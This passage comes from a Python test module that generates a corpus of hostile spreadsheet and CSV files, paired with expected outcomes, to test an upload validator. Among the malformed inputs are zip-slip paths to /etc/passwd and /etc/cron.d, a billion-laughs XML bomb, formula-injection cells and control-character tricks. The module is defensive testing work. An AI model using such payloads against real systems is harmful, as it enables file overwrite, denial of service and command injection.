        f(
            "tanggal-tak-hingga.xlsx",
            ROWS,
            "every cell date-formatted, holding inf",
            lambda: _styled("dd/mm/yyyy", "inf"),
        ),
        f(
            "tanggal-nan.xlsx",
            ROWS,
            "every cell date-formatted, holding NaN",
            lambda: _styled("dd/mm/yyyy", "NaN"),
        ),
        f(
            "tanggal-semua-kolom.xlsx",
            ROWS,
            "every cell a date (serial 45,000)",
            lambda: _styled("yyyy-mm-dd", "45000"),
        ),
        f("waktu-semua-kolom.xlsx", ROWS, "every cell a time of day", lambda: _styled("hh:mm:ss", "0.5")),
        f(
            "durasi-semua-kolom.xlsx",
            ROWS,
            "every cell a duration",
            lambda: _styled("[h]:mm:ss", "100000.25"),
        ),
        f(
            "angka-raksasa.xlsx",
            ROWS,
            "every numeric column 1e308 (numbers, not text)",
            lambda: _styled("0", "1E308"),
        ),
        f(
            "nilai-bukan-angka.xlsx",
            "file_unreadable",
            "a numeric cell holding text",
            lambda: _patched_sheet(
                rb"</sheetData>", b'<row r="3"><c r="A3" t="n"><v>bukan angka</v></c></row></sheetData>'
            ),
        ),
        f(
            "sel-galat.xlsx",
            ROWS,
            "error cells (#REF!, #DIV/0!) and a boolean",
            lambda: _patched_sheet(
                rb"</sheetData>",
                b'<row r="3"><c r="A3" t="e"><v>#REF!</v></c><c r="B3" t="e"><v>#DIV/0!</v></c>'
                b'<c r="C3" t="b"><v>1</v></c></row></sheetData>',
            ),
        ),
        f(
            "boolean-tujuh.xlsx",
            "file_unreadable",
            "a boolean cell holding 7",
            lambda: _patched_sheet(
                rb"</sheetData>", b'<row r="3"><c r="C3" t="b"><v>7</v></c></row></sheetData>'
            ),
        ),
        f(
            "indeks-teks-bersama.xlsx",
            "file_unreadable",
            "a shared-string cell pointing past the table (index 99,999)",
            lambda: _patched_sheet(
                rb"</sheetData>", b'<row r="3"><c r="D3" t="s"><v>99999</v></c></row></sheetData>'
            ),
        ),
        f(
            "xml-rusak.xlsx",
            "file_unreadable",
            "the sheet XML cut in the middle of a tag",
            lambda: _rezip(_base(), replace={SHEET: _parts(_base())[SHEET][:300]}),
        ),
        f(
            "xml-nul.xlsx",
            "file_unreadable",
            "NUL bytes inside the sheet XML",
            lambda: _patched_sheet(rb"<sheetData>", b"<sheetData>\x00\x00\x00"),
        ),
        f(
            "baris-nol.xlsx",
            "file_unreadable",
            "a reference to row 0 (A0)",
            lambda: _with_sheet(b'<row r="0"><c r="A0"><v>1</v></c></row>'),
        ),
        f(
            "referensi-entitas.xlsx",
            "file_unreadable",
            "a reference written with a character entity (&#88;FD1048576)",
            lambda: _with_sheet(b'<row r="2"><c r="&#88;FD1048576"><v>1</v></c></row>'),
        ),
        f(
            "referensi-bukan-atribut-pertama.xlsx",
            "too_many_columns",
            "r after another attribute, and after a newline",
            lambda: _with_sheet(
                b'<row r="2"><c s="0" r="A2"><v>1</v></c><c\nr="XFD2"><v>1</v></c></row>', dimension=None
            ),
        ),
        f(
            "referensi-atribut-asing.xlsx",
            ROWS,
            "x:r='XFD1048576' in a foreign namespace (not a reference)",
            lambda: _with_sheet(b'<row r="2"><c x:r="XFD1048576" xmlns:x="urn:x"><v>1</v></c></row>'),
        ),
        f(
            "gabung-sel-raksasa.xlsx",
            ROWS,
            "a merged range A1:XFD1048576, a huge autofilter and a shared formula over the sheet",
            lambda: _rezip(
                _base(),
                replace={
                    SHEET: _sheet_xml(
                        _header_row()
                        + b'<row r="2"><c r="A2"><f t="shared" ref="A2:XFD1048576" si="0">1+1</f>'
                        b"<v>2</v></c></row>"
                    ).replace(
                        b"</sheetData>",
                        b'</sheetData><autoFilter ref="A1:XFD1048576"/><mergeCells count="1">'
                        b'<mergeCell ref="A1:XFD1048576"/></mergeCells>',
                    )
                },
            ),
        ),
        f(
            "referensi-tanpa-kolom.xlsx",
            "file_unreadable",
            "a cell reference without its column letters (r=3)",
            lambda: _with_sheet(b'<row r="3"><c r="3"><v>1</v></c></row>'),
        ),
        f(
            "judul-ganda.xlsx",
            ROWS,
            "NIK twice in the header",
            lambda: _workbook([[*ROW, "1504011203850002"]], header=[*HEADER, "NIK"]),
        ),
        f(
            "makro-vba.xlsx",
            ROWS,
            "a workbook carrying a vbaProject.bin (never run)",
            lambda: _rezip(_base(), add={"xl/vbaProject.bin": _ole(_junk(1024, 10))}),
        ),
        f(
            "jalur-zip-keluar.xlsx",
            ROWS,
            "parts named ../../etc/passwd and /etc/cron.d/x (never extracted)",
            lambda: _rezip(
                _base(), add={"../../etc/passwd": b"root:x:0:0", "/etc/cron.d/x": b"* * * * * id"}
            ),
        ),
        # CSV text
        f(
            "nul.csv",
            "file_nul",
            "a NUL byte in the second row",
            lambda: header + b"1504\x00011203850001,Ahmad\r\n",
        ),
        f(
            "nul-jauh.csv",
            "file_nul",
            "a NUL byte after 2 MB of good rows",
            lambda: header + _csv_bytes([ROW]) * 8000 + b"\x00\r\n",
        ),
        f(
            "utf16le-bom.csv",
            "file_utf16",
            "UTF-16 LE with BOM",
            lambda: codecs.BOM_UTF16_LE + _csv([HEADER, ROW]).encode("utf-16-le"),
        ),
        f(
            "utf16be-bom.csv",
            "file_utf16",
            "UTF-16 BE with BOM",
            lambda: codecs.BOM_UTF16_BE + _csv([HEADER, ROW]).encode("utf-16-be"),
        ),
        f(
            "utf16le.csv",
            "file_utf16",
            "UTF-16 LE without BOM",
            lambda: _csv([HEADER, ROW]).encode("utf-16-le"),
        ),
        f(
            "utf16be.csv",
            "file_utf16",
            "UTF-16 BE without BOM",
            lambda: _csv([HEADER, ROW]).encode("utf-16-be"),
        ),
        f(
            "unicode-text.txt",
            "file_utf16",
            "Excel's 'Unicode Text' (UTF-16 LE, tabs)",
            lambda: codecs.BOM_UTF16_LE + _csv([HEADER, ROW], delimiter="\t").encode("utf-16-le"),
        ),
        f(
            "utf32.csv",
            "file_utf16",
            "UTF-32 LE with BOM",
            lambda: codecs.BOM_UTF32_LE + _csv([HEADER, ROW]).encode("utf-32-le"),
        ),
        f(
            "bom-utf8-tidak-valid.csv",
            "file_encoding",
            "a UTF-8 BOM, then bytes that are not UTF-8",
            lambda: codecs.BOM_UTF8 + header + b"1504011203850001,J\xe9r\xf4me\r\n",
        ),
        f(
            "utf8-tidak-valid.csv",
            ROWS,
            "invalid UTF-8 without BOM (read as Windows-1252)",
            lambda: header + _csv_bytes([_with("NAMA", "X")]).replace(b",X,", b",\xff\xfe\x81\x8d,"),
        ),
        f(
            "surrogat.csv",
            ROWS,
            "lone surrogates written as UTF-8 (CESU), overlong slash",
            lambda: header + _csv_bytes([_with("NAMA", "X")]).replace(b",X,", b",\xed\xa0\x80\xc0\xaf,"),
        ),
        f(
            "sel-200-ribu.csv",
            "cell_too_long",
            "a quoted 200,000-character cell",
            lambda: header + _csv_bytes([_with("NAMA", 'A"' + "B" * 200_000)]),
        ),
        f(
            "sel-200-ribu-tanpa-kutip.csv",
            "cell_too_long",
            "an unquoted 200,000-character cell (over csv's 131,072 limit)",
            lambda: header + _csv_bytes([_with("NAMA", "B" * 200_000)]),
        ),
        f(
            "sel-40-ribu.csv",
            "cell_too_long",
            "a 40,000-character cell (over Excel's 32,767, under csv's limit)",
            lambda: header + _csv_bytes([_with("NAMA", "C" * 40_000)]),
        ),
        f(
            "kutip-tak-ditutup.csv",
            "cell_too_long",
            "a quote opened and never closed, 300 KB of rows after it",
            lambda: header + b'"1504011203850001,Ahmad\r\n' + _csv_bytes([ROW]) * 1500,
        ),
        f(
            "kutip-tak-ditutup-pendek.csv",
            ROWS,
            "a quote opened and never closed at the end of the file",
            lambda: header + b'1504011203850001,"Ahmad\r\n',
        ),
        f(
            "seribu-kolom.csv",
            "too_many_columns",
            "1,000 columns",
            lambda: _csv_bytes([HEADER + [f"x{i}" for i in range(980)], ROW]),
        ),
        f(
            "seribu-kolom-kosong.csv",
            ROWS,
            "1,000 columns of which 980 trailing ones are empty",
            lambda: _csv_bytes([HEADER + [""] * 980, ROW + [""] * 980]),
        ),
        f(
            "satu-juta-koma.csv",
            "too_many_columns",
            "a 1 MB line of commas with a value at the end",
            lambda: header + b"," * (1 << 20) + b"x\r\n",
        ),
        f(
            "baris-sangat-panjang.csv",
            ROWS,
            "a 4.6 MB line: 150 cells of 30,000 characters",
            lambda: header + _csv_bytes([["D" * 30_000] * 150]),
        ),
        f(
            "pemisah-campur.csv",
            ROWS,
            "a header with semicolons, rows with commas and tabs",
            lambda: (
                _csv_bytes([HEADER], delimiter=";") + _csv_bytes([ROW]) + _csv_bytes([ROW], delimiter="\t")
            ),
        ),
        f("tab.csv", ROWS, "tab-separated", lambda: _csv_bytes([HEADER, ROW], delimiter="\t")),
        f(
            "cr-saja.csv",
            ROWS,
            "old Mac line endings (CR only)",
            lambda: _csv_bytes([HEADER, ROW], newline="\r"),
        ),
        f(
            "rumus.csv",
            ROWS,
            "formula cells: =HYPERLINK, =cmd|, @SUM, +, -",
            lambda: _csv_bytes([HEADER, FORMULAS + ROW[len(FORMULAS) :], _with("NIK", "=1504011203850001")]),
        ),
        f(
            "judul-ganda.csv",
            ROWS,
            "NIK,NAMA,...,NIK",
            lambda: _csv_bytes([[*HEADER, "NIK"], [*ROW, "1504011203850002"]]),
        ),
        f(
            "judul-ganda-beda-tulisan.csv",
            ROWS,
            "'nik' and 'N I K' both mean NIK",
            lambda: _csv_bytes([[*HEADER, "n_i k"], [*ROW, "x"]]),
        ),
        f(
            "karakter-kendali.csv",
            ROWS,
            "terminal escapes, bidi overrides, zero-width spaces in cells",
            lambda: (
                header
                + _csv_bytes(
                    [_with("NIK", "\u202e1504011203850001\u200b", _with("NAMA", "\x1b[31mAhmad\x1b[0m\x07"))]
                )
            ),
        ),
        f(
            "angka-5000-digit.csv",
            ROWS,
            "every numeric column 5,000 digits long (past Python's int() limit of 4,300)",
            lambda: header + _csv_bytes([_numbers("9" * 5000)]),
        ),
        f(
            "angka-superskrip.csv",
            ROWS,
            "every numeric column '²' (a digit to str.isdigit, not to int())",
            lambda: header + _csv_bytes([_numbers("²"), _numbers("¹²³⁴")]),
        ),
        f(
            "angka-bukan-latin.csv",
            ROWS,
            "Arabic-Indic and full-width digits in every numeric column and the NIK",
            lambda: (
                header + _csv_bytes([_numbers("٣"), _with("NIK", "١٥٠٤٠١١٢٠٣٨٥٠٠٠١", _numbers("\uff15"))])
            ),
        ),
        f(
            "angka-aneh.csv",
            ROWS,
            "1e400, NaN, -inf, -0, 0x10 and dates like 31/02/99999",
            lambda: (
                header
                + _csv_bytes(
                    [
                        *(_numbers(value) for value in ("1e400", "NaN", "-inf", "-0", "0x10", "1_000")),
                        _with("TANGGAL_LAHIR", "31/02/99999", _with("TANGGAL", "0000-00-00")),
                        _with("BULAN_DARI", "99999-99", _with("TANGGAL_BAYAR", "999999")),
                    ]
                )
            ),
        ),
        f(
            "html-sebagai-xls.xls",
            ROWS,
            "an HTML table saved as .xls (what some portals export)",
            lambda: b"<html><body><table><tr><td>NIK</td><td>NAMA</td></tr></table></body></html>\r\n",
        ),
        f(
            "xml-2003.xls",
            ROWS,
            "XML Spreadsheet 2003 with a billion-laughs DOCTYPE (read as text, never parsed)",
            lambda: (
                b'<?xml version="1.0"?>' + BILLION_LAUGHS + b'<Workbook xmlns="urn:schemas-microsoft-com:'
                b'office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&lol9;</Data></Cell></Row></Table>'
                b"</Worksheet></Workbook>\r\n"
            ),
        ),
    ]
    names = [file.name for file in files]
    assert len(names) == len(set(names)), "file names must be unique"
    return files


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


CORPUS: list[HostileFile] = _corpus()
BY_NAME = {file.name: file for file in CORPUS}


def write_corpus(folder: Path, files: list[HostileFile] = CORPUS) -> dict[str, Path]:
    """Write the files into ``folder``; returns their paths by name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for file in files:
        path = folder / file.name
        path.write_bytes(file.build())
        paths[file.name] = path
    return paths
